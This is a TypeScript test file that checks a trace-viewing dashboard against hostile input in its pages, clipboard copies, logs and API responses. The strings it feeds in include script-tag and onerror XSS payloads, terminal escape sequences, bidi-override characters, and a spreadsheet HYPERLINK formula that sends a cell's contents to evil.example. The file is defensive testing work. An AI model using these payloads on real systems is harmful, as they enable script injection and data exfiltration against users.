import { mintReference, mintSpanId, traceIdOf } from '@waybill/reference'
import { encodeOtlp } from '@waybill/trail'
import type { Step } from '@waybill/trail'
import type { Page } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { BROWSER_KEY, SERVER_KEY, TOKEN } from '../../fixtures/openDesk.ts'
import { lookFor, openPages } from '../../fixtures/openPage.ts'
import type { Pages } from '../../fixtures/openPage.ts'
import { mapMermaid } from '../map/mapMermaid.ts'
import { mapText } from '../map/mapText.ts'

const TEXTS = [
  '<img src=x onerror="window.hit=1"><script>window.hit=1</script>',
  '"><svg/onload=window.hit=1><style>*{display:none}</style>\'--></textarea></title>',
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u009b5n\b\r\nroot@desk:~# rm',
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  '\u202etxt.exe\u2066\u2069\u200f\u061c abc \u202dxyz',
  'a\u200bb\u2060c\ufeffd\u00ade\u{e0041}f\u115fg',
  'W'.repeat(160),
  'javascript:window.hit=1//{{constructor.constructor("window.hit=1")()}}${window.hit=1}<%= 1 %>%s%n',
  'مرحبا '.repeat(8) + 'ﷺ'.repeat(30) + 'Z̶̧̢̛'.repeat(20),
] as const

/** Nothing of it may be left where a person reads: it would be obeyed by a terminal, or turn what stands beside it around. */
const OBEYED =
  // oxlint-disable-next-line no-control-regex -- they are the subject
  /[\0-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\u061c\ufeff\u00ad\u115f\u{e0041}]/u

let pages: Pages
const references = TEXTS.map(() => mintReference())
/** Of the worst of them there are trails that only browsers tell of. */
const WORST = [TEXTS[0], TEXTS[4], TEXTS[6]]
const claimed = WORST.map(() => mintReference())

beforeAll(async () => {
  pages = await openPages()
  for (const [index, text] of TEXTS.entries()) {
    await send('/v1/traces', serverSteps(references[index]!), text, { authorization: `Bearer ${SERVER_KEY}` })
    await send(`/v1/traces?key=${BROWSER_KEY}`, browserSteps(references[index]!), text)
    const link = { reference: references[index], kind: 'ticket', value: text, service: text }
    const answer = await fetch(`${pages.url}/api/links`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${SERVER_KEY}` },
      body: JSON.stringify({ ...link, url: `https://acme.example/${encodeURIComponent(text.slice(0, 40))}` }),
    })
    expect(answer.status).toBe(200)
  }
  for (const [index, text] of WORST.entries())
    await send(`/v1/traces?key=${BROWSER_KEY}`, browserSteps(claimed[index]!), text)
})
afterAll(() => pages[Symbol.asyncDispose]())

/** Written by hand into the body, because our own encoder would clean it. */
async function send(
  path: string,
  steps: readonly Step[],
  text: string,
  headers: Record<string, string> = {},
): Promise<void> {
  const body = JSON.stringify(encodeOtlp(steps)).replaceAll('EVIL', JSON.stringify(text).slice(1, -1))
  const answer = await fetch(pages.url + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
  })
  expect(answer.status).toBe(200)
  expect(answer.headers.get('content-type')).toMatch(/^application\/json/)
  expect(await answer.text()).not.toMatch(OBEYED)
}

function evilStep(fields: Partial<Step> & Pick<Step, 'reference' | 'hop'>): Step {
  return {
    id: mintSpanId(),
    traceId: traceIdOf(fields.reference),
    service: 'EVIL',
    name: 'EVIL',
    at: Date.now() - 60_000,
    durationMs: 12,
    status: 'error',
    error: { type: 'EVIL', message: 'EVIL' },
    jobId: 'EVIL',
    session: 'EVIL',
    person: 'P-1',
    remains: 'EVIL',
    facts: { order: 'SHARED-1', note: 'EVIL', EVIL: 'EVIL' },
    attributes: { 'gen_ai.request.model': 'EVIL', 'gen_ai.prompt.name': 'EVIL', 'http.route': 'EVIL', EVIL: 'EVIL' },
    ...fields,
  }
}

const serverSteps = (reference: Step['reference']) => [
  evilStep({ reference, hop: 'api' }),
  evilStep({ reference, hop: 'model', at: Date.now() - 50_000 }),
  evilStep({ reference, hop: 'queue', at: Date.now() - 40_000, effect: 'held' }),
]
const browserSteps = (reference: Step['reference']) => [evilStep({ reference, hop: 'browser', action: 'failed' })]

async function expectHarmless(page: Page, where: string): Promise<void> {
  const seen = await page.evaluate(() => ({
    hit: 'hit' in window,
    made: document.querySelectorAll('#desk :is(script, img, iframe, style, object, embed, base, meta)').length,
    links: [...document.querySelectorAll('a')].map((link) => link.protocol).filter((each) => !/^https?:$/.test(each)),
    wide: document.documentElement.scrollWidth - innerWidth,
    text: document.body.innerText + document.title,
  }))
  expect({ ...seen, text: '' }, where).toEqual({ hit: false, made: 0, links: [], wide: 0, text: '' })
  expect(seen.text, where).not.toMatch(OBEYED)
  const folder = process.env['WAYBILL_SCREENSHOTS']
  if (folder)
    await page.screenshot({
      path: `${folder}/hostile-${where.replaceAll(/\W+/g, '-').slice(0, 20)}.png`,
      fullPage: true,
    })
}

test('texts made to run, to hide or to overflow are shown as they are and harm nothing, on a phone', async () => {
  const permissions = ['clipboard-read', 'clipboard-write']
  await using visit = await pages.visit('/', { permissions, viewport: { width: 390, height: 800 } })
  const { page } = visit
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  page.on('dialog', (dialog) => asked.push(dialog.message()))
  for (const reference of [...references, ...claimed]) {
    await lookFor(page, reference)
    await page.locator(`.trail [data-waybill-reference="${reference}"]`).waitFor()
    // Those of the first round may fold others.
    for (let round = 0; round < 2; round++)
      await page.locator('button.line[aria-expanded=false]').evaluateAll((rows) => {
        for (const row of rows) if (row instanceof HTMLElement) row.click()
      })
    await page.locator('.details').first().waitFor()
    await expectHarmless(page, reference)
    await page.getByRole('button', { name: 'Copy for engineering' }).click()
    await page.getByText('The summary was copied.').waitFor({ state: 'attached' })
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    expect(copied).not.toMatch(OBEYED)
    expect(copied).not.toMatch(/^\s*[=+@＝＋－＠-]/mu)
  }
  await lookFor(page, references[0]!)
  await page.getByRole('heading', { level: 1, name: TEXTS[0] }).waitFor()

  await lookFor(page, 'SHARED-1')
  await page.getByRole('heading', { name: `${TEXTS.length} trails` }).waitFor()
  await page.locator('.claims summary').click()
  await expectHarmless(page, 'a list')
  await lookFor(page, 'P-1')
  await page.getByRole('heading', { name: 'Trails of one customer' }).waitFor()
  await page
    .getByRole('listitem')
    .nth(TEXTS.length - 1)
    .waitFor()
  await expectHarmless(page, 'a customer')
  await page.getByRole('link', { name: 'Map' }).click()
  await page.getByText(`From ${TEXTS.length + WORST.length} trails.`).waitFor()
  await expectHarmless(page, 'the map')
  for (const text of TEXTS) {
    await lookFor(page, text)
    await page.getByRole('search').getByRole('button', { name: 'Look up' }).waitFor()
    await expectHarmless(page, 'a search')
  }
  expect(asked.filter((url) => !url.startsWith(pages.url))).toEqual([])
  expect(visit.complaints).toEqual([])
})

test('names that somebody gave a token or a proxy made up are harmless in the head and in the log', async () => {
  await using visit = await pages.visit('/', { viewport: { width: 390, height: 800 } })
  const { page } = visit
  const entries = TEXTS.map((text, index) => ({
    id: TEXTS.length - index,
    at: new Date().toISOString(),
    event: 'look-up',
    who: text,
    via: 'proxy',
    address: text,
    kind: `fact:${text}`,
    matches: 1,
  }))
  for (const who of WORST) {
    await page.route('**/session', (route) =>
      route.fulfill({ json: { signedIn: true, who, scopes: ['read', 'admin'] } }),
    )
    await page.route('**/api/log*', (route) => route.fulfill({ json: { entries, next: null } }))
    await page.goto(`${pages.url}/log`)
    await page.getByRole('table').getByRole('row').nth(TEXTS.length).waitFor()
    await expectHarmless(page, who)
  }
  expect(visit.complaints).toEqual([])
})

test('the API answers as JSON that no browser takes for a page, and the map prints nothing that a terminal obeys', async () => {
  const headers = { authorization: `Bearer ${TOKEN}` }
  for (const path of [
    `/api/trails/${references[0]}`,
    '/api/trails/<script>',
    '/api/map?since=<b>',
    '/api/customers/<b>',
    '/session',
  ])
    expect((await fetch(pages.url + path, { headers })).headers.get('content-type'), path).toMatch(
      /^application\/(problem\+)?json/,
    )
  const map = await (await fetch(`${pages.url}/api/map?since=1d`, { headers })).json()
  for (const printed of [mapText(map), mapMermaid(map)]) {
    expect(printed).not.toMatch(OBEYED)
    expect(printed.split('\n').length).toBeGreaterThan(TEXTS.length)
  }
})
